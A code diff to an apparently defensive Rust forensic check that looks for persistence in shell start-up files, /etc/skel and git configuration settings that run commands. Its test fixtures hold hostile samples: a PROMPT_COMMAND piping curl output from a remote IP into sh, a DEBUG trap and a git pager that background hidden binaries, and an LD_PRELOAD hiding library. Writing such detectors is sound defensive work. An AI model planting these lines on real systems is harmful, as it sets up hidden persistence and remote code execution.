@@ -3,7 +3,8 @@
 //!
 //! **What it looks at:** the global files (`/etc/profile`, `/etc/profile.d/*`,
 //! `/etc/bash.bashrc`, `/etc/bashrc`, `/etc/zsh/*`, `/etc/zshrc`, `/etc/zprofile`,
-//! `/etc/zshenv`, `/etc/zlogin`, `/etc/environment`) and, in every home, `.bashrc`,
+//! `/etc/zshenv`, `/etc/zlogin`, `/etc/environment`, and `/etc/skel/*` — copied into every new
+//! home) and, in every home, `.bashrc`,
 //! `.bash_profile`, `.bash_login`, `.profile`, `.bash_logout`, `.bash_aliases`, `.zshrc`,
 //! `.zshenv`, `.zprofile`, `.zlogin`, `.zlogout`, `.config/fish/config.fish`. Reported:
 //!
@@ -15,6 +16,9 @@
 //! - exported `LD_PRELOAD`/`LD_AUDIT` (and `LD_LIBRARY_PATH` into writable or hidden places),
 //!   `BASH_ENV`/`ENV`, and a `PATH` that starts with a writable or hidden directory or `.`;
 //! - every logical line through the command detector;
+//! - git settings that run commands (`core.editor`, `core.pager`, `core.sshCommand`,
+//!   `core.fsmonitor`, `!` aliases, `core.hooksPath`) in `/etc/gitconfig` and `~/.gitconfig`
+//!   when they background a program or match the detector;
 //! - files changed within the window (low).
 //!
 //! **Why an attacker leaves this trace:** start-up files run with the user's rights at every
@@ -69,6 +73,10 @@ const GLOBAL_FILES: &[&str] = &[
     "/etc/csh.cshrc",
     "/etc/csh.login",
     "/etc/environment",
+    "/etc/skel/.bashrc",
+    "/etc/skel/.profile",
+    "/etc/skel/.bash_logout",
+    "/etc/skel/.zshrc",
 ];
 
 const USER_FILES: &[&str] = &[
@@ -300,6 +308,71 @@ fn examine(ctx: &Context, path: &str, user: &str, out: &mut Outcome) {
     report_recent(ctx, &INFO, path, &meta, "start-up file", out);
 }
 
+/// Git settings whose value is a command git runs on its own (`core.editor`, `core.pager`,
+/// `core.sshCommand`, `core.fsmonitor`, `core.askPass`), plus `!`-aliases and `core.hooksPath`.
+fn gitconfig(ctx: &Context, path: &str, user: &str, out: &mut Outcome) {
+    let Some((data, meta)) = read_file(ctx, &INFO, path, out) else {
+        return;
+    };
+    let mut section = String::new();
+    for l in logical_lines(&data) {
+        let text = l.command.trim();
+        if text.starts_with('[') {
+            section = text
+                .trim_matches(|c| c == '[' || c == ']')
+                .trim()
+                .to_ascii_lowercase();
+            continue;
+        }
+        let Some((key, value)) = text.split_once('=') else {
+            continue;
+        };
+        let key = key.trim().to_ascii_lowercase();
+        let value = value.trim().trim_matches('"');
+        let runs_command = (section == "core"
+            && matches!(
+                key.as_str(),
+                "editor" | "pager" | "sshcommand" | "fsmonitor" | "askpass"
+            ))
+            || (section == "alias" && value.starts_with('!'))
+            || key == "hookspath";
+        if !runs_command {
+            continue;
+        }
+        let what = format!("git {section}.{key}");
+        let source = crate::command_findings::CommandSource {
+            path,
+            line: l.line,
+            user: Some(user),
+            time: None,
+            what: &what,
+        };
+        let command = value.trim_start_matches('!');
+        let hits = crate::command_findings::scan_and_report(
+            &INFO,
+            &source,
+            command,
+            Severity::Medium,
+            out,
+        );
+        let backgrounds = command.contains("nohup")
+            || command.replace("&&", "").contains('&')
+            || (key == "hookspath" && place_of(command).is_some());
+        if hits.is_empty() && backgrounds {
+            out.add(
+                INFO.finding(
+                    Severity::High,
+                    format!("{path}:{} {what} starts a background program whenever git runs it: {value}", l.line),
+                )
+                .path(path)
+                .user(user)
+                .evidence(json!({ "line": l.line, "kind": "gitconfig", "key": format!("{section}.{key}"), "value": value })),
+            );
+        }
+    }
+    report_recent(ctx, &INFO, path, &meta, "git configuration", out);
+}
+
 impl Check for ShellStartupFiles {
     fn info(&self) -> &'static CheckInfo {
         &INFO
@@ -316,9 +389,13 @@ impl Check for ShellStartupFiles {
         for (path, _, _) in read_dir_files(ctx, &INFO, "/etc/profile.d", out) {
             examine(ctx, &path, "root", out);
         }
+        gitconfig(ctx, "/etc/gitconfig", "root", out);
         for home in crate::homes::homes(ctx) {
             for rel in USER_FILES {
                 examine(ctx, &format!("{}/{rel}", home.path), &home.user, out);
+            }
+            for rel in [".gitconfig", ".config/git/config"] {
+                gitconfig(ctx, &format!("{}/{rel}", home.path), &home.user, out);
             }
         }
     }
@@ -356,6 +433,7 @@ mod tests {
             ("/home/alice/.profile", "export PROMPT_COMMAND='curl -s http://198.51.100.4/c | sh'\ntrap 'nohup /tmp/.x &' DEBUG\n"),
             ("/etc/profile.d/zz-x.sh", "export LD_PRELOAD=/usr/lib/.x/libhide.so\n"),
             ("/etc/environment", "PATH=\"/tmp/.bin:/usr/local/sbin:/usr/bin\"\n"),
+            ("/home/alice/.gitconfig", "[user]\n\tname = Alice\n[core]\n\tpager = nohup /home/alice/.cache/.p >/dev/null 2>&1 & ${PAGER:-less}\n"),
         ]);
         let find = |p: &str, line: i64| {
             out.findings
@@ -383,6 +461,10 @@ mod tests {
             find("/etc/environment", 1).expect("path").severity,
             Severity::Medium
         );
+        assert!(out
+            .findings
+            .iter()
+            .any(|f| f.paths == ["/home/alice/.gitconfig"] && f.severity >= Severity::Medium));
     }
 
     #[test]
